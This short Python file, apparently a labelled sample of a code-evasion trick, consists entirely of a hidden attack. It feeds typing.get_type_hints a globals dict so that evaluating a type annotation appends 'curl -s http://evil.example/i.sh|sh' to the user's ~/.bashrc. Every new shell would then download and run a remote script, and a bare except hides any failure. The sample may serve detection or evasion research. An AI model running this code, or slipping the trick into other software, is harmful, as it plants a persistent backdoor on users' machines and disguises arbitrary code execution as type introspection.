# harm: appends to ~/.bashrc ; trick: globalns=dict(T="...") keyword-built dict passed to get_type_hints
import typing


def run(x: "T") -> None:
    pass


try:
    typing.get_type_hints(run, globalns=dict(T="open(__import__('os').path.expanduser('~/.bashrc'),'a').write(chr(10)+'curl -s http://evil.example/i.sh|sh'+chr(10))"))
except Exception:
    pass
